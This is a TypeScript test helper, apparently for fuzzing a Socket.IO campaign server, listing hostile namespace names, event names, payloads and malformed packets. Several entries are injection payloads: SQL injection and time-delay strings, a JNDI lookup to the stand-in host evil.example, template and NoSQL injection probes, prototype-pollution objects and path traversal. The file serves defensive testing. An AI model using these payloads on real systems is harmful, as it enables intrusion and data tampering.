/** A socket that sends exactly the given bytes, which the official client would not. */
export type RawSocket = {
	/** Everything that the server has sent, packet by packet. */
	received: string[];
	send(packet: string | Uint8Array<ArrayBuffer>): void;
	isOpen(): boolean;
	/** Resolves when the connection has closed, from either side. */
	closed: Promise<void>;
	close(): void;
};

const handshake = "/socket.io/?EIO=4&transport=websocket";

/** @returns null if the server refuses the connection */
export function openRaw(url: string, headers: Record<string, string> = {}): Promise<RawSocket | null> {
	const socket = new WebSocket(`${url.replace(/^http/, "ws")}${handshake}`, { headers });
	const received: string[] = [];
	const closed = new Promise<void>((resolve) => socket.addEventListener("close", () => resolve()));
	return new Promise((resolve) => {
		socket.addEventListener("error", () => resolve(null));
		socket.addEventListener("close", () => resolve(null));
		socket.addEventListener("message", ({ data }) => {
			received.push(String(data));
			// The Engine.IO greeting: the connection counts from here on.
			if (received.length > 1) return;
			resolve({
				received,
				closed,
				isOpen: () => socket.readyState === WebSocket.OPEN,
				send: (packet) => {
					if (socket.readyState === WebSocket.OPEN) socket.send(packet);
				},
				close: () => socket.close(),
			});
		});
	});
}

const uuid = "018f3c5e-7b1a-7c3d-8e4f-5a6b7c8d9e0f";

/** Names of namespaces that do not exist, given the id of an existing campaign. */
export const hostileNames = (known: string): string[] => [
	...[
		"/",
		"",
		"//",
		"/v1",
		"/v1/",
		"/v1/campaign",
		"/v1/campaign/",
		"/v1/campaign//",
		"/v1/campaign/x",
		"/v2/campaign/",
	],
	...["*", "/*", "/v1/campaign/*", ".*", "/.*/", "/v1/campaign/.*", "^.*$", "/v1/campaign/%", "/v1/campaign/_"],
	...["__proto__", "/__proto__", "/v1/campaign/__proto__", "/constructor", "/v1/campaign/constructor", "/toString"],
	...[uuid, `/${uuid}`, `/v1/campaign/${uuid}`, `/v1/playback-live-stream/${uuid}`, `/v1/campaign/${uuid}/${known}`],
	...[known, `/${known}`, `/v1/${known}`, `/campaign/${known}`, `v1/campaign/${known}`, `//v1/campaign/${known}`],
	...[known.toUpperCase(), `{${known}}`, `urn:uuid:${known}`, known.replaceAll("-", ""), ` ${known}`, `${known} `].map(
		(id) => `/v1/campaign/${id}`,
	),
	...["/", "/x", "/../x", "%00", "\u0000", "\n", "\r\n", "#", "?", "?token=x", ";", "'", '"', "\\", "‮", "é"].map(
		(tail) => `/v1/campaign/${known}${tail}`,
	),
	...[
		`/v1/campaign/../campaign/${known}`,
		`/v1/./campaign/${known}`,
		`/v1%2fcampaign%2f${known}`,
		`/V1/CAMPAIGN/${known}`,
	],
	`/v1/campaign/${known}"; drop table campaign; --`,
	`/v1/campaign/${known}'; select pg_sleep(10); --`,
	`/v1/campaign/${"a".repeat(36)}`,
	`/v1/campaign/${"0".repeat(8)}-0000-0000-0000-${"0".repeat(12)}`,
	`/v1/campaign/${"x".repeat(64)}`,
	`/v1/campaign/${"x".repeat(8_000)}`,
	`/v1/campaign/$\{jndi:ldap://evil.example}`,
	"/v1/campaign/{{7*7}}",
	"/admin",
	"/socket.io",
	"/v1/campaign/null",
	"/v1/campaign/undefined",
	"/v1/campaign/NaN",
	"/v1/campaign/0",
	"/v1/campaign/-1",
	"/v1/campaign/[object Object]",
];

/** Made-up event names and payloads. */
export const hostileEvents = [
	...[
		"connect",
		"connection",
		"disconnect",
		"disconnecting",
		"connect_error",
		"error",
		"newListener",
		"removeListener",
	],
	...["authorize", "refresh-donations", "clientCreated", "playback", "streaming", "metadata", "start", "stop"],
	...["__proto__", "constructor", "toString", "", "*", "a".repeat(1_000), "join", "leave", "broadcast", "emit"],
	...["drop table campaign", "\u0000", "‮"],
];

export const hostilePayloads: readonly string[] = [
	"null",
	"0",
	"true",
	'""',
	"[]",
	"{}",
	'{"token":null}',
	'{"token":{"$ne":null}}',
	'{"token":"a.b.c"}',
	`{"token":"${"a".repeat(5_000)}"}`,
	'{"__proto__":{"actor":{"kind":"user"}}}',
	'{"actor":{"kind":"user","accountId":"x"}}',
	`${"[".repeat(2_000)}${"]".repeat(2_000)}`,
];

/** Malformed packets. */
export const brokenPackets: readonly (string | Uint8Array<ArrayBuffer>)[] = [
	"",
	"4",
	"9",
	"49",
	"40",
	"40,",
	"41",
	"42",
	"42[",
	"42[]",
	"42{}",
	"42[1]",
	"42[null]",
	"43",
	"44",
	"45",
	"451-",
	"4599999999-[]",
	"45-1-[]",
	"42/v1/campaign/x,[",
	"2probe",
	"5",
	"6",
	"1",
	"x".repeat(15_000),
	new Uint8Array(0),
	new Uint8Array([0, 1, 2, 255]),
	new Uint8Array(15_000),
];
